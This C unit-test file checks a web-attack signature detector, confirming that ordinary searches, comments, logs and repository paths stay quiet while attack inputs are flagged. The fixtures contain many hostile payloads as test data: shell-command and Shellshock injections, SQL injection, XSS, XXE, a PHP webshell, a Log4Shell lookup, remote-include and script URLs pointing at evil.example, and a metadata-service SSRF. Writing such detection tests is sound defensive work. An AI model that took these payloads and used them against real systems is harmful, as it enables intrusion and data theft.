    cr_assert_eq(fk_websig_match_event(set, &ev, collect, &h), 0, "%s", h.ids);
}

static const char *referrer_families(const char *referrer)
{
    static hits h;
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    ev.path = FK_STR("/blog/");
    ev.referrer = (fk_str){referrer, strlen(referrer)};
    h = (hits){"", 0};
    cr_assert_geq(fk_websig_match_event(set, &ev, collect, &h), 0);
    return h.ids;
}

/* A Referer that is a URL is a page's address (a search engine's holds its user's
 * words): commands and file paths there are words, as this server never runs them;
 * markup and SQL there still count. A Referer that is no URL is no browser's. */
Test(websig, commands_in_a_referring_pages_url_are_words)
{
    cr_assert_str_eq(referrer_families("http://www.bing.com/search?q=netstat+-an&form=QBRE"), "");
    cr_assert_str_eq(referrer_families("https://www.google.com/search?q=cat+/proc/cpuinfo+meaning"),
                     "");
    cr_assert_str_eq(referrer_families("http://www.so.com/s?q=sudo+apt+update&src=srp"), "");
    cr_assert_str_eq(
        referrer_families("http://www.reddit.com/r/linux/comments/2y8p0x/select-the-right-ssd/"),
        "");
    cr_assert_not_null(strstr(referrer_families("cat /etc/passwd"), "rce:"));
    cr_assert_not_null(strstr(referrer_families(";env"), "rce:"));
    cr_assert_not_null(strstr(referrer_families("() { :; }; /bin/bash -c id"), "rce:"));
    cr_assert_not_null(
        strstr(referrer_families("https://www.example.com/search?q=1+waitfor+delay+'0:0:15'+--"),
               "sqli:"));
    cr_assert_not_null(strstr(
        referrer_families("http://www.example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E"), "xss:"));
}

/* SQL reaches a Referer only as a string literal, so an injection through a page URL must
 * end that string first: SQL words without a quote are a search, with one the family
 * applies. The quote must be one no browser wrote: browsers send a page's query with
 * both quotes as %27 and %22, so a search engine's URL with a person's quoted words is
 * a search; raw, or escaped in any other way the signatures decode, it is a client's
 * own. A Referer that is no URL keeps every rule. */
Test(websig, sql_in_a_referring_pages_url_needs_a_quote)
{
    cr_assert_str_eq(referrer_families("http://www.google.com/search?q=drop+table+if+exists"), "");
    cr_assert_str_eq(
        referrer_families("https://duckduckgo.com/?q=select+count(*)+from+users+group+by"), "");
    cr_assert_str_eq(referrer_families("http://www.google.com/search?q=%27or%27+in+sql"), "");
    cr_assert_str_eq(
        referrer_families("http://www.bing.com/search?q=%22union+all%22+vs+%22union%22+sql"), "");
    cr_assert_not_null(strstr(
        referrer_families("http://www.example.com/?id=1'+union+select+password+from+users--"),
        "sqli:"));
    cr_assert_not_null(strstr(
        referrer_families("http://www.example.com/?q=%27or%27+in+sql'+and+sleep(5)--"), "sqli:"));
    cr_assert_not_null(strstr(
        referrer_families("http://www.example.com/?id=1%2527+union+select+password+from+users--"),
        "sqli:"));
    /* escaped as the signatures' decoding undoes: an HTML reference, IIS's %u */
    cr_assert_not_null(
        strstr(referrer_families(
                   "http://www.example.com/?id=1%26%2339;+union+select+password+from+users--"),
               "sqli:"));
    cr_assert_not_null(strstr(
        referrer_families("http://www.example.com/?id=1%u0027+union+select+password+from+users--"),
        "sqli:"));
    cr_assert_not_null(strstr(referrer_families("http://www.example.com/?a=\"+or+1=1--"), "sqli:"));
    cr_assert_not_null(strstr(referrer_families("1 union select password from users"), "sqli:"));
}

/* A search box or a comment field holds what a person typed: commands, SQL and file
 * names there are words until a separator, a pipe or a substitution (shell), a quote or
 * a statement's end (SQL), or the value being a path itself (files) makes them more.
 * Every other family, and every other parameter, as ever; the parameter's structure
 * (name=value) is kept for the signatures that read it. */
Test(websig, commands_and_sql_in_free_text_need_a_break)
{
    QUIET("/", "s=sudo+apt+update", NULL);
    QUIET("/search", "q=rm+-rf+node_modules&page=2", NULL);
    QUIET("/", "search=netstat+-an", NULL);
    QUIET("/", "s=powershell+get-childitem", NULL);
    QUIET("/", "keyword=drop+table+if+exists", NULL);
    QUIET("/contact", "message=Hello%2C%0D%0APlease+send+the+invoice.%0D%0AThanks", NULL);
    QUIET("/", "s=cat+/proc/cpuinfo+meaning", NULL);
    QUIET("/", "q=how+to+read+/etc/passwd", NULL);
    FIRES("lfi", "/", "x=how+to+read+/etc/passwd", NULL);
    FIRES("lfi", "/", "s=/etc/passwd", NULL);
    FIRES("lfi", "/", "q=..%2F..%2F..%2Fetc%2Fshadow", NULL);
    FIRES("lfi", "/", "search=c:%5Cwindows%5Cwin.ini", NULL);
    FIRES("rce", "/", "x=rm+-rf+node_modules", NULL);
    FIRES("sqli", "/", "id=drop+table+if+exists", NULL);
    FIRES("rce", "/", "s=test;cat+/etc/passwd", NULL);
    FIRES("rce", "/", "q=%60id%60", NULL);
    FIRES("rce", "/", "comment=x|/bin/sh+-c+id", NULL);
    FIRES("sqli", "/", "s=1+union+select+password+from+users--", NULL);
    FIRES("sqli", "/", "q=x%27+or+%271%27=%271", NULL);
    FIRES("xss", "/", "s=%3Cscript%3Ealert(1)%3C/script%3E", NULL);
    /* an '&' decoded out of another value moves nothing into a free-text parameter */
    FIRES("sqli", "/", "id=1%26s=1+union+select+password+from+users", NULL);
    FIRES("rce", "/", "cmd=rm+-rf+/tmp/x%26q=", NULL);
    /* what people write about commands and SQL: breaks after words are writing */
    QUIET("/", "comment=I+ran+npm+ci+%26%26+npm+run+build+and+it+still+fails", NULL);
    QUIET("/", "message=We+should+handle+%27%3B%27+in+CSV+fields%3B+drop+table+if+exists+first",
          NULL);
    QUIET("/", "q=100%25+agree+--+the+new+layout+is+better", NULL);
}

/* A URL given as a value is an address (a beacon's page, a link in a profile): the
 * words of its query are a search, read as free text; a break right after it is not. */
Test(websig, a_url_as_a_value_is_an_address)
{
    QUIET("/g/collect",
          "en=page_view&dl=https%3A%2F%2Fwww.example.jp%2Fsearch%3Fq%3Ddrop%2520table%26p%3D1",
          NULL);
    QUIET("/g/collect",
          "dl=https%3A%2F%2Fwww.example.jp%2F%3Fq%3Dcat%2520%2Fetc%2Fpasswd%2520meaning", NULL);
    FIRES("rce", "/fetch", "url=http%3A%2F%2F203.0.113.5%2F%3Bcat+%2Fetc%2Fpasswd", NULL);
    FIRES("rce", "/fetch", "url=http://203.0.113.5/x%7Csh", NULL);
    FIRES("ssrf", "/fetch", "url=http://169.254.169.254/latest/meta-data/", NULL);
}

/* The readers alone: a set with no signatures, as bench/crs_eval.py --readers-only runs */
static fk_websig_set *bare;

static void load_bare(void)
{
    static const char empty[] = "signatures: []\n";
    fk_err err;
    cr_assert_eq(fk_websig_load(&bare, "empty.yml", empty, sizeof empty - 1, NULL, NULL, &err), 0,
                 "%s", err.msg);
}

static void unload_bare(void)
{
    fk_websig_free(bare);
}

TestSuite(websig_readers, .init = load_bare, .fini = unload_bare);

static hits bare_scan(const char *method, const char *query)
{
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    if (method)
        ev.method = (fk_str){method, strlen(method)};
    ev.path = FK_STR("/index.php");
    ev.query = (fk_str){query, strlen(query)};
    hits h = {"", 0};
    cr_assert_geq(fk_websig_match_event(bare, &ev, collect, &h), 0);
    return h;
}

/* With no signatures at all, the protocol reader still reports a header smuggled through
 * a parameter and a method outside the registry, as family "protocol". */
Test(websig_readers, the_protocol_reader_reports_through_the_set)
{
    hits h = bare_scan("GET", "lang=en%0d%0aSet-Cookie:%20sid=1");
    cr_assert_eq(h.n, 1, "%s", h.ids);
    cr_assert_str_eq(h.ids, "protocol:struct-protocol ");
    h = bare_scan("DEBUG", "lang=en");
    cr_assert_eq(h.n, 1, "%s", h.ids);
    h = bare_scan("GET", "lang=en");
    cr_assert_eq(h.n, 0, "%s", h.ids);
}

/* A remote URL is an inclusion where the parameter's name says it picks a file to load,
 * and a destination where it says where to go next. */
Test(websig_readers, a_parameter_read_as_a_pair)
{
    hits h = bare_scan(NULL, "lang=en&Page=http%3A%2F%2Fevil.example%2Fshell");
    cr_assert_eq(h.n, 1, "%s", h.ids);
    cr_assert_str_eq(h.ids, "rfi:struct-rfi ");
    h = bare_scan(NULL, "next=https%3A%2F%2Fwww.example.jp%2Fmypage&page=2");
    cr_assert_eq(h.n, 0, "%s", h.ids);
}

/* PHP's stream wrappers are written as URLs, but a value naming one is no address (a
 * page a browser goes to, read as free text): the code reader reads it. A web URL in the
 * same parameter stays an address. */
Test(websig_readers, a_php_stream_wrapper_is_no_address)
{
    hits h = bare_scan(NULL, "x=expect%3A%2F%2Fid");
    cr_assert_str_eq(h.ids, "code:struct-php ");
    h = bare_scan(NULL, "x=PHAR://uploads/avatar.jpg/test.txt");
    cr_assert_str_eq(h.ids, "code:struct-php ");
    h = bare_scan(NULL, "x=https%3A%2F%2Fwww.example.jp%2Fphp%3A%2F%2Fmanual");
    cr_assert_eq(h.n, 0, "%s", h.ids);
}

/* A logged body and Cookie header are read as parameters, each value on its own: a form
 * as it is, JSON, XML and multipart documents by their members; the protocol signatures
 * (HTTP's own text) stay on the request line and headers. */
static const char *body_families_at(const char *path, const char *body, const char *cookie)
{
    static hits h;
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    ev.method = FK_STR("POST");
    ev.path = (fk_str){path, strlen(path)};
    if (body)
        ev.body = (fk_str){body, strlen(body)};
    if (cookie)
        ev.cookie = (fk_str){cookie, strlen(cookie)};
    h = (hits){"", 0};
    cr_assert_geq(fk_websig_match_event(set, &ev, collect, &h), 0);
    return h.ids;
}

static const char *body_families(const char *body, const char *cookie)
{
    return body_families_at("/submit", body, cookie);
}

/* What machines post to machines (bench/service_bodies.py): shipped log lines, a
 * tracing span's statement, an error report's source line, a commit message naming an
 * element. The same text as an injection's still counts. */
Test(websig, machine_reports_quote_what_they_report)
{
    cr_assert_str_eq(
        body_families("{\"index\":{\"_index\":\"logs-web\"}}\n{\"message\":\"10.1.2.3 - - "
                      "[04/Dec/2024:01:02:03 +0900] \\\"GET /news/ HTTP/1.1\\\" 200 5123\"}\n",
                      NULL),
        "");
    static const char span[] =
        "{\"attributes\":[{\"key\":\"db.statement\",\"value\":{\"stringValue\":\"SELECT id, "
        "name FROM orders WHERE customer_id = ? AND status IN (?, ?) LIMIT 50\"}}]}";
    cr_assert_str_eq(body_families_at("/v1/traces", span, NULL), "");
    cr_assert_str_eq(body_families(span, NULL), "", "a bound statement anywhere");
    cr_assert_not_null(strstr(body_families("{\"filter\":\"select pw from users where id = ?; drop "
                                            "table users\"}",
                                            NULL),
                              "sqli:"));
    static const char frame[] = "{\"frames\":[{\"context_line\":\"    cursor.execute(\\\"SELECT "
                                "id FROM cases WHERE org_id = %s\\\", (org,))\"}]}";
    cr_assert_str_eq(body_families_at("/api/42/envelope/", frame, NULL), "");
    cr_assert_not_null(strstr(body_families(frame, NULL), "sqli:"), "not sent as a report");
    /* the protocols' own paths only: a shop's /store/ and an application's /api/v1/logs
     * take forms like any other */
    cr_assert_not_null(strstr(body_families_at("/store/", frame, NULL), "sqli:"));
    cr_assert_not_null(strstr(body_families_at("/api/v1/logs", frame, NULL), "sqli:"));
    cr_assert_not_null(strstr(body_families_at("/api/x/envelope/", frame, NULL), "sqli:"));
    cr_assert_not_null(strstr(body_families_at("/api/42/envelope/",
                                               "{\"message\":\"<script>alert(1)</script>\"}", NULL),
                              "xss:"),
                       "a report's markup is still read");
    /* a body carrying a stack trace is a client's report wherever it is posted: its
     * device paths are words, its markup is still read */
    static const char crash[] = "{\"stack\":[\"at a.B.c(B.java:12)\",\"at a.B.d(B.kt:40)\"],"
                                "\"files\":[\"/data/user/0/com.example.app/cache/search.db\"]";
    char doc[512];
    snprintf(doc, sizeof doc, "%s}", crash);
    cr_assert_str_eq(body_families_at("/api/crash-reports", doc, NULL), "");
    snprintf(doc, sizeof doc, "%s,\"note\":\"<script>alert(1)</script>\"}", crash);
    cr_assert_not_null(strstr(body_families_at("/api/crash-reports", doc, NULL), "xss:"));
    cr_assert_not_null(strstr(body_families_at("/api/crash-reports",
                                               "{\"files\":[\"/data/user/0/com.example.app/cache/"
                                               "search.db\"]}",
                                               NULL),
                              "lfi:"),
                       "without a trace the path counts");
    /* an HL7 v2 message's separators are its format's; an injection in a field counts */
    cr_assert_str_eq(body_families_at("/api/hl7/inbound",
                                      "MSH|^~\\&|HIS|KOBE|LIS|LAB|202406280241||ORU^R01|9|P|2.5\r"
                                      "PID|1||87852438^^^KOBE^MR||O'BRIEN^SEAN\r",
                                      NULL),
                     "");
    cr_assert_not_null(strstr(body_families_at("/api/hl7/inbound",
                                               "MSH|^~\\&|HIS|KOBE|LIS|LAB|2024||ADT^A01|9|P|2.5\r"
                                               "PID|1||x' union select password from users--\r",
                                               NULL),
                              "sqli:"));
    /* a block editor's code block shows code; the same code elsewhere counts */
    cr_assert_str_eq(
        body_families("{\"content\":\"<!-- wp:code -->\\n<pre class=\\\"wp-block-code\\\">"
                      "<code>&lt;?php echo esc_html( get_the_title() ); "
                      "?&gt;</code></pre>\\n<!-- /wp:code -->\"}",
                      NULL),
        "");
    cr_assert_not_null(strstr(
        body_families("{\"comment\":\"<?php echo system($_GET['c']); ?>\"}", NULL), "code:"));
    /* only the elements' content is the example: code beside them counts */
    cr_assert_not_null(strstr(body_families("{\"content\":\"<p>See:</p><pre><code>x</code></pre>"
                                            "<p><?php echo system($_GET['c']); ?></p>\"}",
                                            NULL),
                              "code:"));
    QUIET("/wp-admin/post.php",
          "content=%3Cp%3EThe+template%3A%3C%2Fp%3E%3Cpre%3E%7B%7B+7*7+%7D%7D%3C%2Fpre%3E", NULL);
    FIRES(
        "code", "/wp-admin/post.php",
        "content=%3Cp%3EThe+template%3A%3C%2Fp%3E%3Cpre%3Ex%3C%2Fpre%3E%3Cp%3E%24%7Bjndi%3Aldap%3A"
        "%2F%2F198.51.100.9%2Fa%7D%3C%2Fp%3E",
        NULL);
    QUIET("/hooks", "message=Revert+%22Escape+%3Cscript%3E+in+comments%22", NULL);
    FIRES("xss", "/hooks", "message=%3Cscript%3Ealert(1)", NULL);
    FIRES("xss", "/hooks", "message=%3Cscript+src%3D//evil.example/x.js%3E", NULL);
}

/* A JSON document given as a query parameter (GraphQL's variables over GET) is read
 * member by member, as a JSON body is: a search term in it is free text; injections in
 * its members count as anywhere. */
Test(websig, a_json_document_in_a_query_parameter_is_read_member_by_member)
{
    QUIET("/graphql",
          "operationName=SearchProducts&variables=%7B%22query%22%3A%22or%20else%22%2C%22first%22"
          "%3A24%7D",
          NULL);
    FIRES("sqli", "/graphql",
          "variables=%7B%22id%22%3A%221%20union%20select%20password%20from%20users%22%7D", NULL);
    FIRES("sqli", "/graphql", "variables=%7B%22query%22%3A%22%27%20or%201%3D1--%22%7D", NULL);
    FIRES("xss", "/api", "state=%7B%22a%22%3A%22%3Cscript%3Ealert(1)%3C%2Fscript%3E%22%7D", NULL);
    /* a value that only opens like one is read as it is */
    FIRES("sqli", "/api", "f=%7B1%20union%20select%20password%20from%20users", NULL);
}

/* A repository's browser and API, and a file share, name the files they keep in the
 * URL's path: those names are content, not files the server opens there. A climb, or
 * the same names anywhere else, still count. */
Test(websig, file_names_in_a_repository_or_share_path_are_content)
{
    QUIET("/infra/ansible/-/blob/main/roles/common/files/etc/ssh/sshd_config", NULL, NULL);
    QUIET("/infra/ansible/-/raw/main/.gitlab-ci.yml", "inline=false", NULL);
    QUIET("/api/v4/projects/210/repository/files/config%2Fsettings.py/raw", "ref=main", NULL);
    QUIET("/org/app/src/branch/main/db/migrations/001_init.sql", NULL, NULL);
    QUIET("/remote.php/dav/files/tanaka/backup/site.sql.gz", NULL, NULL);
    FIRES("lfi", "/infra/ansible/-/raw/main/../../../../etc/passwd", NULL, NULL);
    FIRES("lfi", "/infra/-/raw/main/%2e%2e/%2e%2e/etc/shadow", NULL, NULL);
    FIRES("lfi", "/etc/ssh/sshd_config", NULL, NULL);
    FIRES("sensitive", "/.gitlab-ci.yml", NULL, NULL);
    FIRES("rce", "/-/blob/main/x%3Bcat%20/etc/passwd", NULL, NULL);
    /* GitHub's shape: the view third, after the owner and the repository */
    QUIET("/amazonlinux/container-images/blob/03d54f8c4d52/Dockerfile", NULL, NULL);
    QUIET("/microsoft/Kusto-Query-Language/blob/master/src/Parser/QueryGrammar.cs", NULL, NULL);
    QUIET("/mathiasbynens/cssesc/blob/master/.babelrc", NULL, NULL);
    FIRES("sensitive", "/amazonlinux/blob/Dockerfile", NULL, NULL);
    FIRES("sensitive", "/app/static/src/Dockerfile", NULL, NULL);
    FIRES("lfi", "/a/b/blob/main/../../../../etc/passwd", NULL, NULL);
}

/* Real URLs written in this machine's documentation (bench/real_urls.py): a page named
 * after the API it documents, a web archive's memento, a badge's inline logo. What an
 * attack would need beside them (a call, a file: URL, a script in the data) still
 * fires. */
Test(websig, documentation_pages_mementos_and_inline_pictures)
{
    QUIET("/api/child_process.html", NULL, NULL);
    QUIET("/3/library/subprocess.html", NULL, NULL);
    QUIET("/nodejs/node/blob/v20.20.2/lib/child_process.js", NULL, NULL);
    FIRES("code", "/x/require('child_process')", NULL, NULL);
    QUIET("/en-us/powershell/module/microsoft.powershell.utility/invoke-expression",
          "view=powershell-7.2", NULL);
    QUIET("/en-us/windows-hardware/drivers/devtest/bcdedit--set", NULL, NULL);
    FIRES("rce", "/cgi-bin/%2e%2e/%2e%2e/%2e%2e/bin/sh", NULL, NULL);
    FIRES("rce", "/x/invoke-expression%20(iwr%20http://192.0.2.1/a)", NULL, NULL);
    QUIET("/web/20011105084002/http://support.microsoft.com/kb/Q150/9/56.asp", NULL, NULL);
    QUIET("/web/20140626004012im_/http://www.picloud.com/logo.png", NULL, NULL);
    FIRES("rfi", "/get/https://example.com/", NULL, NULL);
    FIRES("rfi", "/web/x/file:///etc/hosts", NULL, NULL);
    QUIET("/badge/run-579ACA.svg",
          "logo=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAFkAAABZCAMAAABi1XidAAAB8lBMVEX",
          NULL);
    /* the type alone says nothing: the bytes are not a PNG's */
    FIRES("code", "/inc", "page=data:image/png;base64,PD9waHAgcGhwaW5mbygpOz8%2B", NULL);
    QUIET("/wiki/What%3F_Where%3F_When%3F", NULL, NULL);
    QUIET("/wiki/.de", NULL, NULL);
    QUIET("/debian/pool/main/x/xmltoman/xmltoman_0.3.orig.tar.gz", NULL, NULL);
    FIRES("sensitive", "/site.orig.tar.gz", NULL, NULL);
}

/* URLs compiled into programs and libraries (bench/real_urls.py bins): links copied out
 * of HTML with their ampersands escaped, an ellipsis in a truncated name, a page about
 * Dockerfiles, a native application's loopback callback (RFC 8252) */
/* A generated password breaks strings as it likes; one with a word in it is read */
Test(websig, a_password_of_symbols_says_nothing)
{
    QUIET("/login", "username=alice&password=%22%27%22%230a%3B-Y-%222&remember=on", NULL);
    QUIET("/login", "username=bob&password=%27%23Z%3C%25%28Ya%5E%28_1", NULL);
    FIRES("sqli", "/login", "username=bob&password=%27%20or%20%271%27%3D%271", NULL);
    FIRES("sqli", "/login", "username=bob%27%23&password=x", NULL);
}

Test(websig, escaped_separators_ellipses_and_loopback_callbacks)
{
    QUIET("/isis/index.php", "action=viewcom&amp;id=213", NULL);
    QUIET("/bbs/post/view", "bid=1&amp;amp;id=7395345&amp;sty=1", NULL);
    FIRES("rce", "/x", "a=1&amp;b=%3Bid", NULL);
    QUIET("/2004/08/15/opinion/15sun3.html",
          "ex=1093233600&amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;"
          "amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;en=f1&amp;amp;amp;ei=5070",
          NULL);
    FIRES("protocol", "/x",
          "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
          "aaaaaaaaaaaaaaaaaaaa=1",
          NULL);
    FIRES("rce", "/x", "a=1;id", NULL);
    QUIET("/packages/a9/5a/0db.../setuptools-78.1.0.tar.gz", NULL, NULL);
    FIRES("lfi", "/x", "f=....//....//etc/passwd", NULL);
    QUIET("/go/dockerfile/rule/stage-name-casing/Comment", NULL, NULL);
    FIRES("sensitive", "/app/Dockerfile", NULL, NULL);
    FIRES("sensitive", "/app/WEB-INF/lib/x.jar", NULL, NULL);
    QUIET("/oauth/authorize", "oauth_token=sdf0&oauth_callback=https%3A%2F%2F127.0.0.1%2Fcallback",
          NULL);
    FIRES("ssrf", "/fetch", "url=http://127.0.0.1/admin", NULL);
}

/* A file's name in a JSON document is data (a webhook's changed files); a value that
 * reaches outside the application's directory makes the document's names requests. */
Test(websig, file_names_in_a_document_are_data)
{
    const char *hook = "{\"commits\": [{\"modified\": [\"config/nginx/site.conf\", "
                       "\"scripts/deploy.sh\", \".github/workflows/ci.yml\", \"db/backup.sql\"]}]}";
    cr_assert_str_eq(body_families(hook, NULL), "");
    cr_assert(strstr(body_families("{\"template\": \"../../../../etc/passwd\"}", NULL), "lfi:"));
    cr_assert(strstr(body_families("{\"files\": [\"config/site.conf\", \"/etc/shadow\"]}", NULL),
                     "lfi:"));
    cr_assert(strstr(body_families("file=config/database.yml", NULL), "sensitive:") ||
              strstr(body_families("file=config/database.yml", NULL), "lfi:"));
}

Test(websig, bodies_and_cookies_are_read_as_parameters)
{
    cr_assert(strstr(body_families("user=admin&pass=x'+or+'1'%3D'1", NULL), "sqli:"));
    cr_assert(strstr(body_families("{\"name\":\"<script>alert(1)</script>\"}", NULL), "xss:"));
    cr_assert(strstr(body_families(NULL, "sid=1; pref=x;cat /etc/passwd"), "rce:"));
    cr_assert(strstr(body_families("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM "
                                   "\"file:///etc/passwd\">]><a>&x;</a>",
                                   NULL),
                     "xxe:"));
    cr_assert(strstr(body_families("--b\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\n"
                                   "1 union select password from users\r\n--b--\r\n",
                                   NULL),
                     "sqli:"));
    /* a script uploaded where the server may run it */
    cr_assert(strstr(body_families("--b\r\nContent-Disposition: form-data; name=\"up\"; "
                                   "filename=\"avatar.php.png\"\r\n\r\nGIF89a\r\n--b--\r\n",
                                   NULL),
                     "code:struct-upload"));
    /* a parameter whose '=' was percent-encoded: its value is read all the same */
    cr_assert(strstr(body_families("pay%3DAND+2771%3D1709%29", NULL), "sqli:"));
    /* a smuggled request line in a form value is still HTTP's business */
    cr_assert(strstr(body_families("var=aaa%0d%0aGET+/admin+HTTP/1.1", NULL), "protocol:"));
}

Test(websig, everyday_bodies_and_cookies_are_quiet)
{
    const char *quiet[][2] = {
        {"comment=Great+post%21+I+run+sudo+apt+update+daily.&rating=5", NULL},
        {"{\"title\":\"Q3 report\",\"tags\":[\"finance\",\"draft\"],\"public\":false}", NULL},
        {"<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/"
         "envelope/\"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body>"
         "</soap:Envelope>",
         NULL},
        {"--XyZ\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.png\"\r\n"
         "Content-Type: image/png\r\n\r\n\x89PNG\r\n--XyZ--\r\n",
         NULL},
        {"text=line+one%0D%0Aline+two", NULL},
        {NULL, "_ga=GA1.2.1234567890.1700000000; theme=dark; cart=%7B%22n%22%3A2%7D"},
        {NULL, "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl; lang=ja"},
    };
    for (size_t i = 0; i < sizeof quiet / sizeof quiet[0]; i++) {
        const char *got = body_families(quiet[i][0], quiet[i][1]);
        cr_assert_str_eq(got, "", "alarm on body %s cookie %s: %s", quiet[i][0] ? quiet[i][0] : "-",
                         quiet[i][1] ? quiet[i][1] : "-", got);
    }
}

static int keep_evidence(void *ctx, const fk_websig_hit *h)
{
    char *out = ctx;
    size_t used = strlen(out);
    snprintf(out + used, 1024 - used, "%.*s|", (int)h->evidence.n, h->evidence.p);
    return 0;
}

/* Passwords, tokens and session ids travel in bodies and cookies: an alert shows where
 * the attack was, never their values. */
Test(websig, secrets_in_bodies_and_cookies_are_withheld)
{
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    ev.method = FK_STR("POST");
    ev.path = FK_STR("/login");
    ev.body = FK_STR("user=x'+union+select+1--&password=hunter2");
    ev.cookie = FK_STR("PHPSESSID=s3cr3tvalue; pref=;cat /etc/passwd");
    char shown[1024] = "";
    cr_assert_gt(fk_websig_match_event(set, &ev, keep_evidence, shown), 0);
    cr_assert(strstr(shown, "union select"), "%s", shown);
    cr_assert_null(strstr(shown, "hunter2"), "%s", shown);
    cr_assert_null(strstr(shown, "s3cr3tvalue"), "%s", shown);
    cr_assert(strstr(shown, "password=(withheld)"), "%s", shown);
    /* an attack in the password field itself is reported, its text withheld */
    ev.body = FK_STR("user=bob&password=x'+or+'1'%3D'1");
    ev.cookie = (fk_str){NULL, 0};
    shown[0] = '\0';
    cr_assert_gt(fk_websig_match_event(set, &ev, keep_evidence, shown), 0);
    cr_assert_null(strstr(shown, "'1'='1"), "%s", shown);
    /* a password holding '&' (%26 in the form) is one value: none of it is shown */
    ev.body = FK_STR("{\"user\": \"x' union select 1--\", \"password\": \"abc&tail]>(ic^b5@\"}");
    shown[0] = '\0';
    cr_assert_gt(fk_websig_match_event(set, &ev, keep_evidence, shown), 0);
    cr_assert(strstr(shown, "union select"), "%s", shown);
    cr_assert_null(strstr(shown, "tail"), "%s", shown);
    /* a form copied out of HTML with its separators escaped (&amp;): the password is
     * still a password */
    ev.body = FK_STR("user=x'+union+select+1--&amp;password=hunter2&amp;amp;pin=8812");
    shown[0] = '\0';
    cr_assert_gt(fk_websig_match_event(set, &ev, keep_evidence, shown), 0);
    cr_assert(strstr(shown, "union select"), "%s", shown);
    cr_assert_null(strstr(shown, "hunter2"), "%s", shown);
    cr_assert_null(strstr(shown, "8812"), "%s", shown);
    cr_assert(strstr(shown, "password=(withheld)"), "%s", shown);
    cr_assert(strstr(shown, "pin=(withheld)"), "%s", shown);
}

static const char *linked_families_by(const char *path, const char *referrer, int status,
                                      const char *agent)
{
    static hits h;
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    ev.path = (fk_str){path, strlen(path)};
    if (referrer)
        ev.referrer = (fk_str){referrer, strlen(referrer)};
    if (agent)
        ev.user_agent = (fk_str){agent, strlen(agent)};
    ev.status = status;
    h = (hits){"", 0};
    cr_assert_geq(fk_websig_match_event(set, &ev, collect, &h), 0);
    return h.ids;
}

static const char *linked_families(const char *path, const char *referrer, int status)
{
    return linked_families_by(path, referrer, status, NULL);
}

/* A file suspect by its kind alone (.conf, .log, .sql) that a page linked to and the
 * server handed out is a download (a blog's example dhcpd.conf in a real 2015 log); asked
 * without a page, or refused, it is still a probe. Secrets by name stay reported. */
Test(websig, a_linked_download_of_a_suspect_kind_is_a_download)
{
    const char *page = "http://www.example.org/articles/dynamic-dns/";
    cr_assert_str_eq(linked_families("/files/dynamic-dns/dhcpd.conf", page, 200), "");
    cr_assert_str_eq(linked_families("/files/dynamic-dns/dhcpd.conf", page, 304), "");
    cr_assert_not_null(
        strstr(linked_families("/files/dynamic-dns/dhcpd.conf", NULL, 200), "sensitive:"));
    cr_assert_not_null(
        strstr(linked_families("/files/dynamic-dns/dhcpd.conf", page, 404), "sensitive:"));
    cr_assert_not_null(strstr(linked_families("/.env", page, 200), "sensitive:"));
    cr_assert_not_null(strstr(linked_families("/backup/site.sql.bak", page, 200), "sensitive:"));
}

/* A crawler that says it is one finds a file by a page's link as a browser does (the
 * same 2015 log's search engines fetch the article's dhcpd.conf): served, it is a
 * download; refused, or a secret by name, it is reported whatever the agent claims. */
Test(websig, a_declared_crawler_fetches_what_pages_link_to)
{
    const char *google = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    const char *slurp =
        "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)";
    const char *conf = "/files/dynamic-dns/dhcpd.conf";
    cr_assert_str_eq(linked_families_by(conf, NULL, 200, google), "");
    cr_assert_str_eq(linked_families_by(conf, NULL, 304, "Googlebot-Image/1.0"), "");
    cr_assert_str_eq(linked_families_by(conf, NULL, 200, slurp), "");
    cr_assert_not_null(strstr(linked_families_by(conf, NULL, 404, google), "sensitive:"));
    cr_assert_not_null(strstr(linked_families_by(conf, NULL, 200, "curl/7.30.0"), "sensitive:"));
    cr_assert_not_null(strstr(
        linked_families_by(conf, NULL, 200, "Mozilla/5.0 (X11; Linux x86_64)"), "sensitive:"));
    cr_assert_not_null(strstr(linked_families_by("/.env", NULL, 200, google), "sensitive:"));
}

/* A status page's name (info.php) with no query at all: an absent query may carry no
 * pointer, and reading it must not do arithmetic on one (UBSan, fuzz_normalise). */
Test(websig, a_status_page_without_a_query)
{
    /* asked for without parameters, a status page is a probe (sensitive-status-page) */
    cr_assert_not_null(strstr(linked_families("/info.php", NULL, 200), "sensitive:"));
}

/* A User-Agent's product and its comment, set apart by a blank ("Rank Exec
 * (rankexec.com)", a crawler in SecLists' User-Agent list), is no PHP call; a call written
 * as code writes it, and a serialized object in the header, still fire. */
Test(websig, a_product_and_its_comment_are_no_call)
{
    QUIET("/", NULL, "Rank Exec (rankexec.com) Reciprocal Link Manager 1.x/bot");
    FIRES("code", "/", NULL, "Mozilla/5.0 system('id')");
    FIRES("code", "/", NULL, "O:8:\"Exploit\":1:{s:4:\"cmd\";s:2:\"id\";}");
}
